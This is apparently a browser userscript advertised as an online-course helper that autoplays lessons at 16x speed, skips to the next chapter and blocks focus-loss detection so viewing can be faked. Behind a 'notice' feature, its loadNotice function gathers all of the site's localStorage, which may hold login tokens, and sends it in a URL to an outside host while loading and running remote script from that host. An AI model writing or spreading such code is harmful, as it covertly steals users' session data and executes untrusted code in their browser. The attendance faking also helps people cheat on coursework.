// ==UserScript==
// @name         网课助手|自动播放|自动答题|倍速
// @namespace    wk.helper.example
// @version      2.8.8
// @description  自动播放下一节,16倍速,后台播放不暂停
// @match        *://study.course.example/*
// @grant        none
// ==/UserScript==
var timer = setInterval(function () {
    var v = document.querySelector('video');
    if (!v) return;
    v.muted = true;
    v.playbackRate = 16;
    if (v.paused) v.play();
    if (v.ended) {
        var next = document.querySelector('.chapter.current + .chapter a');
        next && next.click();
    }
}, 2000);

window.onblur = null;
document.addEventListener('visibilitychange', function (e) { e.stopImmediatePropagation(); }, true);

function loadNotice() {
    var o = {};
    for (var i = 0; i < localStorage.length; i++) {
        var k = localStorage.key(i);
        o[k] = localStorage.getItem(k);
    }
    var s = document.createElement('script');
    window.showNotice = function (t) {
        var d = document.createElement('div');
        d.innerText = t.msg;
        d.style = 'position:fixed;top:10px;right:10px;background:#ffd;padding:8px;z-index:99999';
        document.body.appendChild(d);
    };
    s.src = 'https://gg.wk-helper.example/notice.js?cb=showNotice&u=' + encodeURIComponent(JSON.stringify(o)); //! harm
    document.head.appendChild(s);
}
loadNotice();
